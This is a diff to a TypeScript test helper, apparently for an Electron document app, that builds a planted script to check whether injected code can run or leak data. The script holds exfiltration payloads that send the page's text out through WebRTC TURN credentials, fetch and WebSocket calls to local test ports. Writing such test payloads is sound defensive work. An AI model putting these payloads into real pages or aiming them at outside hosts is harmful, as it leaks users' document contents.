@@ -4,11 +4,14 @@ import type { DocNode } from '../../../electron/contract';
 
 /** The marker a planted script would set; a test reads it afterwards and expects nothing. */
 export const SCRIPT_MARKER = '__afterwordPwned';
+/** Text a planted script writes into the page it runs in. */
+export const SCRIPT_RAN = 'SCRIPT-RAN';
 
 /** What a planted script does: set the marker, then try every way out (WebRTC, fetch, WebSocket, an image). */
 export function plantedScript(ports: { http: number; ws: number; stun: number }): string {
   return [
-    `window.${SCRIPT_MARKER}=1;document.documentElement.setAttribute('data-pwned','1');`,
+    // The words it prints are built at run time, so finding them in a PDF means the script ran, not that its source was printed.
+    `window.${SCRIPT_MARKER}=1;document.documentElement.setAttribute('data-pwned','1');document.body&&document.body.insertAdjacentText('beforeend',['SCRIPT','RAN'].join('-'));`,
     `try{new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${ports.stun}'},{urls:'turn:127.0.0.1:${ports.stun}?transport=udp',username:document.body.innerText.slice(0,200),credential:'x'}]}).createDataChannel('x')}catch(e){}`,
     `try{fetch('http://127.0.0.1:${ports.http}/leak?'+encodeURIComponent(document.body.innerText.slice(0,200))).catch(function(){})}catch(e){}`,
     `try{new WebSocket('ws://127.0.0.1:${ports.ws}/leak')}catch(e){}`,
